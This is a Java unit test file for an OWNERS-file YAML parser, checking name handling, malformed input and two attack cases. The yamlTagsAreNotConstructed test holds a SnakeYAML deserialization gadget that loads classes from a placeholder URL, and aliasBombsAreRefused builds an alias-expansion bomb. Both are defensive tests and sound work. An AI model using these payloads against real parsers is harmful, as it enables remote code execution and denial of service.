package io.jxengine.server.trigger;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class OwnersFileTest {
  @Test
  void approversAndReviewersCaseInsensitive() {
    String owners = """
        approvers:
          - Alice
          - bob
        reviewers:
          - carol
        emeritus_approvers:
          - dave
        """;
    assertThat(OwnersFile.people(owners)).containsExactlyInAnyOrder("alice", "bob", "carol");
    assertThat(OwnersFile.lists(owners, "ALICE")).isTrue();
    assertThat(OwnersFile.lists(owners, "dave")).isFalse();
    assertThat(OwnersFile.lists(owners, null)).isFalse();
  }

  @Test
  void brokenOrOddFilesNameNobody() {
    assertThat(OwnersFile.people("approvers: [unclosed")).isEmpty();
    assertThat(OwnersFile.people("- alice\n- bob")).isEmpty();
    assertThat(OwnersFile.people("approvers: alice")).isEmpty();
    assertThat(OwnersFile.people("approvers: [1, {x: y}, alice]")).containsExactly("alice");
    assertThat(OwnersFile.people(null)).isEmpty();
  }

  @Test
  void yamlTagsAreNotConstructed() {
    String hostile = "approvers: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]";
    assertThat(OwnersFile.people(hostile)).isEmpty();
  }

  @Test
  void aliasBombsAreRefused() {
    StringBuilder y = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
    for (char c = 'b'; c <= 'k'; c++) {
      char p = (char) (c - 1);
      y.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p)
          .append(", *").append(p).append(", *").append(p).append("]\n");
    }
    y.append("approvers: [alice]\n");
    assertThat(OwnersFile.people(y.toString())).isEmpty();
  }
}
